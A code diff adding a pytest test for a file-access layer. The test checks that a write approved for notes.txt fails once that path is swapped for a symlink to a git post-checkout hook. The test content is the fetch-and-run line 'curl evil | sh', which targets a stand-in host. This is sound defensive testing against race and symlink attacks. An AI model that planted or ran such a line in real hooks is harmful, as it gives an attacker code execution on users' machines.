@@ -391,6 +391,24 @@ async def test_write_refuses_directory_and_bad_content(root: Path) -> None:
     assert not (root / "f").exists()
 
 
+@pytest.mark.anyio
+async def test_a_checked_write_lands_where_it_was_checked_or_nowhere(root: Path) -> None:
+    # The gate checked notes.txt; it became a link to a git hook before the write.
+    access = FileAccess([root])
+    hook = root / ".git" / "hooks" / "post-checkout"
+    hook.parent.mkdir(parents=True)
+    hook.write_text("#!/bin/sh\n")
+    notes = root / "notes.txt"
+    checked = access.check_path(str(notes))
+    notes.symlink_to(hook)
+    params = {"sessionId": "s1", "path": str(notes), "content": "curl evil | sh\n"}
+    error = await rpc_error(access.write_text_file(params, expected=checked))
+    assert error.code == INVALID_PARAMS and str(hook) in error.message
+    assert hook.read_text() == "#!/bin/sh\n"
+    notes.unlink()
+    assert await access.write_text_file(params, expected=checked) == {}
+    assert notes.read_text() == "curl evil | sh\n"
+
 
 @pytest.mark.anyio
 async def test_relative_links_and_dotdot_are_resolved_step_by_step(root: Path,
